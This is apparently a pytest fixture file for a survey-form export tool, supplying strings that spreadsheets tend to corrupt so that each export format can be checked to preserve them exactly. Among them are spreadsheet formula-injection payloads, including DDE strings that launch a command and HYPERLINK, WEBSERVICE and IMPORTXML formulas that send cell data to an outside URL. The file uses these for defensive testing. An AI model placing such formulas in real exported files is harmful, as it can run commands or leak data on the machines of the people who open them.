"""Texts that spreadsheets are known to spoil, and small tables to put them in."""

import sys
from collections.abc import Callable
from pathlib import Path
from types import ModuleType
from typing import Any

import pytest

from scrqm_forms.hookspecs import Column, Export, ExportFormat, Table
from scrqm_forms.plugin_host import PluginHost

#: What comes back must be exactly this, in every kind of cell and in headings.
PAYLOADS = {
    "formula": "=1+1",
    "formula_with_a_command": "=cmd|'/c calc'!A1",
    "phone_number": "+44 20 7946 0000",
    "minus": "-1",
    "at": "@SUM(A1)",
    "tab_and_formula": "\t=1",
    "line_break_and_formula": "\n=1",
    "error": "#N/A",
    "boolean": "TRUE",
    "leading_zeros": "007",
    "scientific": "1e5",
    "date": "1/2",
    "iso_date": "2026-03-02",
    "long_number": "12345678901234567890",
    "percent": "10%",
    "escape_of_excel": "_x0041_",
    "escapes_of_excel_that_overlap": "a_x0041_x0042_x005F_b_x004g_",
    "escape_of_libreoffice": "_x10_ _x9_",
    "full_width_formula": "＝1",
    "full_width_plus": "＋1",
    "quoted": "'quoted",
    "apostrophes": "''",
    "quotation_marks": '"a","b"\n"c"',
    "separators": "a,b;c\td",
    "blanks_at_both_ends": "  a  ",
    "emoji": "👩‍👩‍👧 👍🏽 🇬🇧",
    "right_to_left": "שלום \u202eabc\u202c مرحبا",
    "combining": "e\u0301 ≠ é",
    "line_breaks": "a\nb\n\nc\n",
    "markup": "<b>&amp;</b> ]]> <!-- &#10;",
    "replacement_character": "a\ufffdb",
    "end_of_the_planes": "\U0010fffd \ue000",
    "three_hundred_line_breaks": "x\n" * 300,
    "hundred_thousand_characters": "Zwölf Boxkämpfer 👩 jagen Viktor. " * 3_000,
    "long_and_escaped": "_x0041_" * 6_000,
}


def table_of(columns: tuple[Column, ...], *rows: tuple[Any, ...], key: str = "responses") -> Table:
    return Table(key=key, title=key.capitalize(), columns=columns, rows=lambda: iter(rows))


def export_of(*tables: Table, about: tuple[tuple[str, str], ...] = (("review", "QXNTVBRA"),)) -> Export:
    return Export(about=about, tables=tables, options={})


@pytest.fixture(scope="session")
def formats() -> dict[str, ExportFormat]:
    """The formats as the program finds them: shipped plugins, loaded from their files."""
    host = PluginHost({}, ())
    host.load_all(Path("/nonexistent"))
    return host.formats


@pytest.fixture(scope="session")
def module_of(formats: dict[str, ExportFormat]) -> Callable[[str], ModuleType]:
    return lambda key: sys.modules[formats[key].write.__module__]


@pytest.fixture(scope="session")
def payloads() -> dict[str, str]:
    return PAYLOADS


@pytest.fixture(scope="session")
def make_table() -> Callable[..., Table]:
    return table_of


@pytest.fixture(scope="session")
def make_export() -> Callable[..., Export]:
    return export_of


#: What begins a formula somewhere, and what may stand before it; 400 texts that no program may reckon with.
_BEFORE = ("", " ", "\t", "\n", "'", '"', ";", ",", "\ufeff", "\u200b")
_FORMULAS = (
    "=1+1",
    "=SUM(A1:A9)",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.org?x="&A1,"Click")',
    '=WEBSERVICE("http://example.org")',
    '=IMPORTXML("http://example.org","//a")',
    '=DDE("cmd";"/C calc";"x")',
    "{=1+1}",
    "=A1",
    "=-1",
    "==1",
    "=@SUM(1)",
    "+1+1",
    "+cmd|' /C calc'!A0",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "@A1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    "=1+1\n=2+2",
    "=1;2",
    "=TRUE()",
    "#REF!",
    "#N/A",
    "#DIV/0!",
    "TRUE",
    "FALSE",
    "1e5",
    "1E+400",
    "0x1F",
    "007",
    "1/2",
    "2026-03-02",
    "12:30",
    "50%",
    "£5",
    "_x003D_1+1",
)


@pytest.fixture(scope="session")
def formula_texts() -> list[str]:
    return [before + formula for before in _BEFORE for formula in _FORMULAS]
